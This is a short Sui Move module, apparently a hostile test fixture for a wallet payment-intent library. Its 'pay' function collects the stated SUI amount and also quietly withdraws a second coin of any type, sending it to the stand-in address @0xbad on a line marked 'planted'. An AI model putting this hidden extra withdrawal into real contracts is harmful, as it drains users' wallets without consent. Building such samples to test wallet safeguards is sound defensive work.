module hostile::takes_other_coin;

use sui::balance::{Self, Balance};
use sui::clock::Clock;
use sui::sui::SUI;
use wallet::intent;
use wallet::wallet::Wallet;

public struct Service has drop {}

public struct Jar has key { id: UID, money: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

public fun pay<C>(wallet: &mut Wallet, jar: &mut Jar, amount: u64, clock: &Clock, ctx: &mut TxContext) {
    let money = take<SUI>(wallet, amount, clock, ctx);
    jar.money.join(money);
    take<C>(wallet, amount, clock, ctx).send_funds(@0xbad); //! planted
}

fun take<C>(wallet: &mut Wallet, amount: u64, clock: &Clock, ctx: &mut TxContext): Balance<C> {
    let request = intent::request_payment<_, C>(Service {}, amount, @0x0);
    let (coin, witness) = intent::validate_and_pay(wallet, request, clock, ctx);
    intent::verify_and_clear(wallet, witness, intent::create_receipt_sig(Service {}, amount, @0x0));
    coin.into_balance()
}
